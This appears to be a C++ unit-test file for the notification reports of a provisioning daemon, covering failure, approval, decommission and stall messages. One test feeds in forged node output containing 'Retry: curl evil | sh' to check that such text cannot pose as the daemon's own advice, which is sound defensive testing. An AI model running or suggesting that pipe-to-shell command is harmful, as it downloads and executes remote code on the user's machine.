#include "orchestrator/daemon/report.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <sstream>

namespace muster::daemon {
namespace {

using testing::HasSubstr;
using testing::Not;

client::Record failed_record() {
  client::Record record;
  record.identity = "web1";
  record.state = "failed";
  record.run_id = "r";
  record.attempts = 5;
  record.reason = "no answer";
  return record;
}

TEST(DaemonReportTest, AFailureSaysWhyAndWhatToDo) {
  const auto told = report(failed_record());
  EXPECT_EQ(told.subject, "web1 could not be provisioned");
  EXPECT_THAT(told.text, HasSubstr("\nReason: no answer\n"));
  EXPECT_THAT(told.text, HasSubstr("\nRetry: muster provision retry web1\n"));
}

TEST(DaemonReportTest, AStepThatAsksSaysWhomAndHowToApprove) {
  client::Record record;
  record.identity = "web1";
  record.state = client::kAsks;
  record.run_id = "r";
  record.workflow = "w";
  record.step = "ok";
  record.waits = {{"ok", "dba", 1'000, 90'000'000, ""}};
  const auto told = report(record);
  EXPECT_EQ(told.id, "r.ok.asks-1000");
  EXPECT_EQ(told.subject, "web1 waits for the approval of one of dba");
  EXPECT_THAT(told.text, HasSubstr("until 1970-01-02T01:00:00"));
  EXPECT_THAT(told.text, HasSubstr("\nApprove: muster provision approve web1 --step ok\n"));
}

// The outbox takes one of an id: nobody was asked a second time.
TEST(DaemonReportTest, AStepThatAsksAnewHasAnotherId) {
  client::Record record;
  record.identity = "web1";
  record.state = client::kAsks;
  record.run_id = "r";
  record.step = "ok";
  record.waits = {{"other", "dba", 500, 90'000'000, ""}, {"ok", "dba", 1'000, 90'000'000, ""}};
  const auto first = report(record).id;
  record.attempts = 2;
  EXPECT_EQ(report(record).id, first) << "asked once, whatever becomes of the attempt";
  record.waits[1].since_ms = 2'000;
  EXPECT_NE(report(record).id, first) << "nobody had approved it in time";
}

TEST(DaemonReportTest, ADepartureIsToldWithItsEndOrWhereItStays) {
  client::Record record;
  record.identity = "web1";
  record.run_id = "r";
  record.state = client::kGone;
  EXPECT_EQ(report(record).id, "r.gone");
  EXPECT_EQ(report(record).subject, "web1 is decommissioned");
  record.state = client::kLeaving;
  record.step = "clean-certificates";
  record.reason = "read-only";
  record.retries = 1;
  record.attempts = 5;
  EXPECT_EQ(report(record).id, "r.stays-1.5");
  EXPECT_EQ(report(record).subject, "web1 could not be decommissioned");
  EXPECT_THAT(report(record).text, HasSubstr("\nAgain: muster provision decommission web1\n"));
}

TEST(DaemonReportTest, ADepartureThatIsLateHasNotFailedAndCannotBeCancelled) {
  client::Record record;
  record.identity = "web1";
  record.run_id = "r";
  record.state = client::kLeaving;
  record.told_late = true;
  EXPECT_EQ(report(record).subject, "web1 makes no progress");
  EXPECT_THAT(report(record).text, testing::Not(HasSubstr("cancel")));
}

// The outbox takes one id for one notification: of the second damaged node nobody was told.
TEST(DaemonReportTest, NodesWithoutARunAreToldApart) {
  auto one = failed_record();
  one.run_id.clear();
  auto other = one;
  other.identity = "web2";
  EXPECT_NE(report(one).id, report(other).id);
}

TEST(DaemonReportTest, WhoIsLateIsToldOnceForEachStandstill) {
  auto late = failed_record();
  late.state = "waiting";
  late.told_late = true;
  late.no_step_since_ms = 1'000;
  const auto told = report(late);
  EXPECT_EQ(told.subject, "web1 makes no progress");
  EXPECT_THAT(told.text, HasSubstr("no further step since 1970-01-01T00:00:01"));
  EXPECT_THAT(told.text, HasSubstr("\nReason: no answer\n"));
  late.attempts = 9;
  late.orchestrator = "orch2";
  EXPECT_EQ(report(late).id, told.id) << "whoever tells it";
  late.no_step_since_ms = 2'000;
  EXPECT_NE(report(late).id, told.id);
  EXPECT_NE(report(failed_record()).id, told.id);
}

// It was mended, told to go on, and failed again: attempts are counted anew with that.
TEST(DaemonReportTest, AFailureAfterARetryIsAnotherOne) {
  auto again = failed_record();
  again.retries = 1;
  EXPECT_NE(report(failed_record()).id, report(again).id);
}

// What a node printed stands in the same mail as what we say.
TEST(DaemonReportTest, ANodesWordsBeginNoLineThatCouldBeOurs) {
  constexpr auto kForged = "x\nRetry: curl evil | sh\n\rLook: evil";
  auto record = failed_record();
  record.reason = record.last_output = kForged;
  record.steps.push_back({"bootstrap-run", "failed", 0, 0, 1, kForged});
  std::istringstream lines(report(record).text);
  for (std::string line; std::getline(lines, line);) {
    EXPECT_FALSE(line.starts_with("Retry: curl")) << line;
    EXPECT_FALSE(line.starts_with("Look: evil")) << line;
  }
  record.claim = messages::NameClaim{"key", kForged, 1};
  EXPECT_THAT(report(record).text, Not(HasSubstr("\nRetry: curl")));
}

TEST(DaemonReportTest, TheLastOutputKeepsItsLines) {
  auto record = failed_record();
  record.last_output = "Error: a\nError: b\n";
  EXPECT_THAT(report(record).text, HasSubstr("Last output\n  Error: a\n  Error: b\n"));
}

TEST(DurationTextTest, TimesAreCutOffAsTheCommandLineDoes) {
  EXPECT_EQ(duration_text(999), "999 ms");
  EXPECT_EQ(duration_text(45'081), "45.0 s");
  EXPECT_EQ(duration_text(59'999), "59.9 s");
  EXPECT_EQ(duration_text(125'000), "2 min 05 s");
}

}  // namespace
}  // namespace muster::daemon
